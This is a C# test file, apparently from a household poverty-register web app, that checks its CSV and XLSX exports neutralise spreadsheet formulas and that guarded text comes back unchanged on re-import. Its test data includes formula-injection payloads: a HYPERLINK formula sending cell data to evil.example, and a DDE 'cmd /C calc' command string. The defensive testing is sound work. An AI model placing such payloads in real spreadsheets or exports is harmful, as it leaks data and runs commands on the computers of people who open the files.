using System.IO.Compression;
using System.Runtime.Versioning;
using System.Xml.Linq;
using CsvHelper;
using YenBai.Cases.Export;
using YenBai.Cases.Import;
using YenBai.Cases.Web.Tests.Store;

namespace YenBai.Cases.Web.Tests.Dangers;

/// <summary>What goes out is opened in a spreadsheet: text that looks like a formula must stay text, and come back as it was.</summary>
[UnsupportedOSPlatform("windows")]
public sealed class SpreadsheetFacts(WatchedStore store) : IClassFixture<WatchedStore>
{
    private const string Register = "household_code,commune_code,hamlet,head_name,phone,members,class";
    private const string On = "2023-12-31";

    private static readonly string[] LikeFormulas =
        ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+84912345678", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "=1", "'=1", "''+1", "'-", "-5"];

    public static TheoryData<string> Formulas => [.. LikeFormulas];

    [Theory]
    [MemberData(nameof(Formulas))]
    [InlineData("'tis")]
    [InlineData("'")]
    [InlineData("Lò Thị Mai")]
    [InlineData("5-3")]
    [InlineData("")]
    public void What_is_guarded_is_no_formula_and_comes_back_as_it_was(string text)
    {
        var guarded = SpreadsheetText.Guard(text);

        ShouldBeNoFormula(guarded);
        SpreadsheetText.Unguard(guarded).ShouldBe(text);
        if (text.Length > 0 && !"=+-@'".Contains(text[0])) guarded.ShouldBe(text);
    }

    private static void ShouldBeNoFormula(string cell) => (cell.Length > 0 && "=+-@\t\r\n".Contains(cell[0]) && !(cell[0] == '-' && cell.Length > 1 && cell[1..].All(char.IsAsciiDigit))).ShouldBeFalse(cell);

    private static List<string[]> Cells(string path)
    {
        using var csv = CsvReader.FromFile(path, new CsvReaderOptions { HasHeader = false });
        var rows = new List<string[]>();
        while (csv.Read()) rows.Add([.. Enumerable.Range(0, csv.FieldCount).Select(csv.GetString)]);
        return rows;
    }

    private static string Quoted(string text) => $"\"{text.Replace("\"", "\"\"")}\"";

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task Refused_rows_can_be_opened_corrected_and_imported_again(string formula)
    {
        var code = TestStore.NewCode();
        // The file of an officer has it as the officer wrote it; a household's code may be one, too.
        var file = store.Write($"{code}.csv", $"{Register}\n{code},04375,{Quoted(formula)},{Quoted(formula)},{Quoted(formula)},5,no such class\n{Quoted("=" + code)},04375,,,,-5,poor\n");

        (await store.ImportAsync(file, On)).Refused.ShouldBe(2);

        var rejects = file + ".rejects.csv";
        var cells = Cells(rejects);
        cells.Count.ShouldBe(3);
        foreach (var cell in cells.SelectMany(r => r)) ShouldBeNoFormula(cell);

        // Corrected in a spreadsheet and saved: the apostrophes are then part of the cells.
        var corrected = store.Write($"{code} 2.csv", File.ReadAllText(rejects).Replace("no such class", "poor").Replace(",-5,poor", ",5,poor"));
        (await store.ImportAsync(corrected, On)).Summary.ShouldBe("taken 2, unchanged 0, ignored 0, refused 0");
        var read = SpreadsheetText.Unguard(formula);
        var view = (await store.GetAsync($"/api/households/{code}")).Json!;
        // A dash alone stands for no telephone.
        (view["head"]!["name"]!.GetValue<string>(), view["head"]!["phone"]?.GetValue<string>(), view["hamlet"]!.GetValue<string>()).ShouldBe((read, read == "-" ? null : read, read));
        (await store.GetAsync($"/api/households/{Uri.EscapeDataString("=" + code)}")).Json!["code"]!.GetValue<string>().ShouldBe("=" + code);
    }

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task The_exported_history_holds_no_formula_and_is_the_same_when_it_comes_in_again(string formula)
    {
        var code = "=" + TestStore.NewCode();
        await store.RegisterAsync(code, formula);
        await store.SubmitAsync(code, 1, new Listing.DecideClass(new(2023, 1, 1), "2022-2025", Households.PovertyClass.Poor, null, null, null));
        var path = Path.Combine(store.Directory, $"{code}.csv");

        await using (var file = File.Create(path)) await store.Get<HistoryExport>().WriteAsync(YenBai.Cases.Access.Actor.Operator, file, null, default);

        foreach (var cell in Cells(path).SelectMany(r => r)) ShouldBeNoFormula(cell);
        var read = new SourceFile(path);
        var row = read.Rows().First(r => r.Values[read.Column("household")] == code);
        row.Values[read.Column("head_name")].ShouldBe(formula);
    }

    [Theory]
    [InlineData("csv")]
    [InlineData("xlsx")]
    public async Task The_list_goes_out_as_text(string ending)
    {
        var mark = TestStore.NewCode();
        for (var i = 0; i < LikeFormulas.Length; i++) await store.RegisterAsync($"{mark}{i}", LikeFormulas[i]);
        await store.CatchUpAsync();

        using var answer = await store.Http.GetAsync($"/ho-dan/xuat.{ending}?q={Uri.EscapeDataString(mark)}");
        answer.EnsureSuccessStatusCode();
        answer.Content.Headers.ContentDisposition!.DispositionType.ShouldBe("attachment");
        var path = store.Write($"{mark}.{ending}", await answer.Content.ReadAsByteArrayAsync());

        if (ending == "csv")
        {
            var cells = Cells(path);
            cells.Count.ShouldBe(LikeFormulas.Length + 1);
            foreach (var cell in cells.SelectMany(r => r)) ShouldBeNoFormula(cell);
            return;
        }
        using var zip = ZipFile.OpenRead(path);
        await using var sheet = zip.Entries.Single(e => e.FullName.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal)).Open();
        var elements = XDocument.Load(sheet).Descendants().ToList();
        elements.ShouldNotContain(e => e.Name.LocalName == "f");
        var texts = elements.Where(e => e.Name.LocalName == "c" && e.Attribute("t")?.Value is "str" or "inlineStr" or "s").Select(e => e.Value).ToList();
        foreach (var name in LikeFormulas) texts.ShouldContain(name);
    }
}
